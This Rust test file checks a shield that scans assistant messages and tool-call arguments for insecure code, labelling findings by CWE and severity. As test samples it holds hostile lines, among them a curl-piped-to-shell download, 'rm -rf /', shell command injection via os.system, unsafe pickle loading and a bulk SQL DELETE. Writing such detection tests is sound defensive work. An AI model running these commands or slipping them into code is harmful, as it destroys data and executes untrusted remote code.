use llama_stack_core::Context;
use llama_stack_proto::v1::{Message, Role, RunShieldRequest, RunShieldResponse, ToolCall, violation};
use proptest::prelude::*;
use serde_json::json;

use super::*;

async fn judge(config: serde_json::Value, message: Message) -> RunShieldResponse {
    let mut deps = Deps::new("/nowhere");
    deps.provider_id = "code".into();
    let shield = build(serde_json::from_value(config).unwrap(), deps).await.unwrap();
    let request =
        RunShieldRequest { shield_id: "code".into(), messages: vec![message], stage: ShieldStage::Output.into(), ..Default::default() };
    shield.run_shield(&Context::test("a"), request).await.unwrap()
}

#[test]
fn every_rule_finds_its_bad_examples_and_no_good_one() {
    let rules = rule::all().unwrap();
    let mut wrong = Vec::new();
    for rule in &rules {
        let (bad, good) = &rule.examples;
        assert!(!bad.is_empty() && !good.is_empty(), "{} has no examples", rule.id);
        wrong.extend(bad.iter().filter(|code| rule.find(code).next().is_none()).map(|code| format!("{} misses {code}", rule.id)));
        wrong.extend(good.iter().filter(|code| rule.find(code).next().is_some()).map(|code| format!("{} finds {code}", rule.id)));
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn there_are_rules_for_every_language_with_ids_of_their_own() {
    let rules = rule::all().unwrap();
    assert!(rules.len() >= 60, "{}", rules.len());
    for language in [Language::Python, Language::Javascript, Language::Sql, Language::Shell, Language::Rust, Language::C, Language::Java] {
        assert!(rules.iter().filter(|rule| rule.language == language).count() >= 8, "{language:?}");
    }
    let mut ids: Vec<&str> = rules.iter().map(|rule| rule.id.as_str()).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), rules.len());
    assert!(rules.iter().all(|rule| rule.cwe.starts_with("CWE-") && rule.cwe[4..].parse::<u32>().is_ok()));
}

/// Good code of a language is good under all the rules of the language.
#[test]
fn no_rule_finds_what_another_calls_good() {
    let rules = rule::all().unwrap();
    let mut wrong = Vec::new();
    for rule in &rules {
        for other in rules.iter().filter(|other| other.language == rule.language && other.severity == Severity::High) {
            wrong.extend(
                rule.examples.1.iter().filter(|code| other.find(code).next().is_some()).map(|code| format!("{} finds {code}", other.id)),
            );
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[tokio::test]
async fn unsafe_code_in_a_fence_is_found_where_it_stands() {
    let text = "Sure, ünlike that:\n```python\nimport os\nos.system(\"rm \" + name)\n```\nDone.";
    let response = judge(json!({}), Message::assistant(text)).await;
    let found = &response.findings[0];
    assert_eq!((found.code.as_str(), &text[found.start as usize..found.end as usize]), ("CWE-78", "os.system(\"rm \" +"));
    assert!(found.detail.starts_with("py-os-system (CWE-78, high): "), "{}", found.detail);
    assert_eq!(response.violation.unwrap().level(), violation::Level::Error);
}

#[tokio::test]
async fn fences_without_a_tag_open_fences_and_arguments_are_judged() {
    let open = "```\n#!/bin/sh\ncurl -s https://x.example | sh";
    assert_eq!(judge(json!({}), Message::assistant(open)).await.findings[0].code, "CWE-494");
    for (arguments, code) in [
        (r#"{"command":"cd /srv\nrm -rf /"}"#, "CWE-73"),
        (r#"{"code":"import pickle\nx = pickle.loads(b)"}"#, "CWE-502"),
        (r#"{"query":"DELETE FROM users;"}"#, "CWE-1284"),
    ] {
        let message = Message::new(Role::Assistant, vec![ToolCall::new("1", "run", arguments).into()]);
        let response = judge(json!({}), message).await;
        assert_eq!(response.findings.first().map(|found| found.code.as_str()), Some(code), "{arguments}");
    }
}

#[tokio::test]
async fn severity_decides_what_stops() {
    let text = "```python\nh = hashlib.md5(p)\n```";
    assert_eq!(judge(json!({}), Message::assistant(text)).await.violation.unwrap().level(), violation::Level::Warn);
    assert_eq!(judge(json!({"block": "medium"}), Message::assistant(text)).await.violation.unwrap().level(), violation::Level::Error);
    assert!(judge(json!({"ignore": ["py-weak-hash"]}), Message::assistant(text)).await.violation.is_none());
    assert!(judge(json!({"least": "high"}), Message::assistant(text)).await.violation.is_none());
    assert!(judge(json!({"languages": ["c"]}), Message::assistant(text)).await.violation.is_none());
}

#[tokio::test]
async fn an_unknown_rule_is_refused() {
    let error = build(serde_json::from_value(json!({"ignore": ["py-nothing"]})).unwrap(), Deps::new("/nowhere")).await.err().unwrap();
    assert_eq!(error.field(), Some("config.ignore[0]"));
}

#[tokio::test]
async fn prose_and_other_languages_pass() {
    for text in
        ["Never use eval(user_input); gets(buf) is worse.", "```haskell\nmain = system(cmd)\n```", "drop table tennis from the plan"]
    {
        assert!(judge(json!({}), Message::assistant(text)).await.findings.is_empty(), "{text}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]
    #[test]
    fn any_text_is_judged(text in "(\\PC|```|~~~|\n|python|eval\\(x\\)|\"){0,60}") {
        static RULES: std::sync::OnceLock<CodeRules> = std::sync::OnceLock::new();
        let rules = RULES.get_or_init(|| CodeRules { rules: rule::all().unwrap(), block: Block::High, stages: written() });
        for json in [false, true] {
            let piece = Piece { part: 0, offset: 0, text: &text, json };
            for hit in rules.find(&[piece], ShieldStage::Output).concat() {
                prop_assert!(text.get(hit.range).is_some());
            }
        }
    }
}
